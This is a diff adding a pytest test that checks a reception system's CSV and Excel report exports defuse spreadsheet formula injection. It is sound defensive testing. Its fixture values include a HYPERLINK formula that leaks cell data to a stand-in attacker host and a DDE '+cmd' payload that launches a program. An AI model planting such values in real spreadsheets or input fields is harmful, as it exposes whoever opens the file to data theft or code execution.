@@ -8,8 +8,10 @@ import io
 
 import pytest
 from openpyxl import load_workbook
+from sqlalchemy import select
 
-from tests.conftest import login
+from reception.models import Case
+from tests.conftest import desk_by_number, login, service_by_prefix, user_by_name
 from tests.test_reports import build
 
 TUESDAY = "/reports/?period=day&day=2026-11-17&group=hour"
@@ -113,3 +115,46 @@ def test_annual_sheet_for_the_city(client, db, hall):
     visits = {r[0]: r[1] for r in rows if r and r[0] in ("来访（取号）", "来访人数")}
     assert visits == {"来访（取号）": 4, "来访人数": 6}
     assert client.get("/reports/annual.xlsx?year=abc").status_code == 422
+
+
+FORMULA = '=HYPERLINK("http://evil.example/"&A1,"点此")'
+
+
+def _formula_cells(book) -> list[str]:
+    return [
+        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in "=+-@")
+    ]
+
+
+def test_no_exported_cell_is_a_formula(client, db, hall):
+    """CWE-1236: names an admin or a visitor typed reach CSV and Excel cells as inert text."""
+    build(hall)
+    service = service_by_prefix("B")
+    service.name = FORMULA
+    desk_by_number(2).name = "+cmd|' /C calc'!A0"
+    user_by_name("desk").display_name = "@SUM(1+1)*cmd"
+    hall.name = "-2+3+cmd"
+    for case in db.session.scalars(select(Case)):
+        case.category = "=1+1"
+    db.session.commit()
+    login(client, "supervisor")
+    for group in ("service", "desk", "staff"):
+        query = f"period=day&day=2026-11-17&group={group}"
+        text = client.get(f"/reports/export.csv?{query}&table=visits").get_data(as_text=True)
+        cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
+        if group != "desk":  # a desk is named after its number first
+            assert any(c.startswith("'") for c in cells), group  # the bad name is there, inert
+        assert not [c for c in cells if c[:1] in "=+-@"], group
+        book = load_workbook(io.BytesIO(client.get(f"/reports/export.xlsx?{query}").data))
+        assert _formula_cells(book) == [], group
+    book = load_workbook(io.BytesIO(client.get("/reports/annual.xlsx?year=2026").data))
+    assert _formula_cells(book) == []
+    values = [c.value for row in book.active.iter_rows() for c in row if c.value]
+    assert "'-2+3+cmd：2026 年信访统计" in values or any(
+        str(v).startswith("'-2+3+cmd") for v in values
+    )
+    assert "'=1+1" in values
